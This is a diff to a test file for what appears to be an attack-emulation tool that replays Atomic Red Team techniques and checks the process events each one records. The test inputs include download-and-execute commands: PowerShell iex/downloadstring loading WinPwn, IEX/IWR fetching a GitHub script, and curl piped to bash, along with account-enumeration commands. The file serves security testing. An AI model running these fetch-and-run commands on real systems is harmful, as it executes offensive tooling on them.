@@ -107,6 +107,19 @@ describe('loaded code', () => {
     expect(images(run.events)).not.toContain('reg.exe');
     expect(run.notes).toEqual([]);
   });
+  it('a payload loaded by many tests (WinPwn: ~40) is split once: the second test reuses the store\'s split and logs the same', () => {
+    const command = `iex(new-object net.webclient).downloadstring('${WINPWN}')`;
+    const first = ps(command);
+    const derived = store.url(WINPWN)!.derived;
+    expect(derived.topLevel).toContain('Write-Host "WinPwn loaded"');
+    expect(derived.topLevel).not.toContain('reg save');
+    expect(derived.scriptBlocks?.map((b) => b.line)).toEqual([1]);
+    const { topLevel, scriptBlocks } = derived;
+    const second = ps(command);
+    expect(store.url(WINPWN)!.derived.topLevel).toBe(topLevel);
+    expect(store.url(WINPWN)!.derived.scriptBlocks).toBe(scriptBlocks);
+    expect(second.events).toEqual(first.events);
+  });
   it('a download the store lacks is noted, not guessed', () => {
     const run = ps("IEX (IWR https://raw.githubusercontent.com/kfallahi/UnderlayCopy/37f2e9b/UnderlayCopy.ps1 -UseBasicParsing)");
     expect(run.notes).toEqual(['payload not available: https://raw.githubusercontent.com/kfallahi/UnderlayCopy/37f2e9b/UnderlayCopy.ps1']);
@@ -154,6 +167,7 @@ describe('batch files and shell scripts', () => {
     expect(String(whoami?.fields['ParentCommandLine'])).toContain('run.bat');
     expect(whoami?.source).toEqual({ file: 'atomics/T1059.003/src/run.bat', line: 2 });
     expect(images(run.events)).toContain('net1.exe');
+    expect(store.atomicsFile('T1059.003/src/run.bat')!.derived.lines).toEqual(['@echo off', 'whoami /groups', 'net localgroup administrators', '']);
   });
   it('curl URL | bash runs the downloaded script (T1059.004 #2)', () => {
     const run = sh(`curl -sS ${FISH} | bash`);
